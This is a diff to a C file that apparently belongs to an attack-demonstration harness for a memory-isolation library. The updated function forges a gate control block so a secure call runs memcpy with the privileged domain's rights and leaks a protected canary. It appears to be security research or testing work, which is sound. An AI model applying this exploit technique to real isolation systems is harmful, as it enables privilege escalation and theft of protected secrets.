@@ -12,6 +12,7 @@
 #include "ara/ara.h"
 #include "ara/domains.h"
 #include "attack.h"
+#include "ara/gate.h"
 #include "attack_libara.h"
 
 const char *attack_libara_file = "";
@@ -90,31 +91,25 @@ uint64_t attack_control_block(void)
 	return 0;
 }
 
-struct fake_cb { /* struct ara_gate_cb (ara/gate.h) */
-	uint64_t claimed, stack_mask, stack_base, stack_stride, dispatch;
-};
-
 void attack_exploit_control_block(uint64_t control_block)
 {
 	static _Alignas(16) unsigned char fake_stack[64 * 1024];
-	static uint64_t claimed; /* the fake block's stack bitmap: none in use */
-	static char stolen[64];
+	struct ara_call_header *h =
+		(struct ara_call_header *)(void *)(fake_stack + sizeof(fake_stack) - ARA_CALL_HEADER_SIZE);
 	const uint64_t memcpy_at = attack_libara_symbol("memcpy", NULL);
 	const uint64_t canary = attack_libara_symbol("dom0_canary", NULL);
-	struct fake_cb *cb = (struct fake_cb *)(uintptr_t)control_block;
+	struct ara_gate_cb *cb = (struct ara_gate_cb *)(uintptr_t)control_block;
 	int (*gate3)(uint64_t, uint64_t, uint64_t) =
 		(int (*)(uint64_t, uint64_t, uint64_t))(void (*)(void))secure_call;
 
 	if (!memcpy_at || !canary)
 		return;
-	cb->claimed = (uint64_t)(uintptr_t)&claimed;
-	cb->stack_mask = 1;
-	cb->stack_base = (uint64_t)(uintptr_t)fake_stack;
-	cb->stack_stride = sizeof(fake_stack);
-	cb->dispatch = memcpy_at;
-	/* secure_call now runs memcpy(stolen, canary, len) with DOM0's row. */
-	gate3((uint64_t)(uintptr_t)stolen, canary, sizeof(stolen) - 1);
-	attack_show_leak((const unsigned char *)stolen, sizeof(stolen) - 1, canary);
+	cb->headers = (uint64_t)(uintptr_t)h; /* the block's one stack: App memory */
+	cb->headers_end = cb->headers + 1;
+	cb->nofunc = memcpy_at;
+	/* secure_call of a fid no service has now runs memcpy(&h->arg, canary, len) with DOM0's row. */
+	gate3(ARA_FID(0x7777, 1), canary, 32); /* within the header, from arg on */
+	attack_show_leak((const unsigned char *)&h->arg, 32, canary);
 }
 
 int attack_copy_canary_in(const char *how)
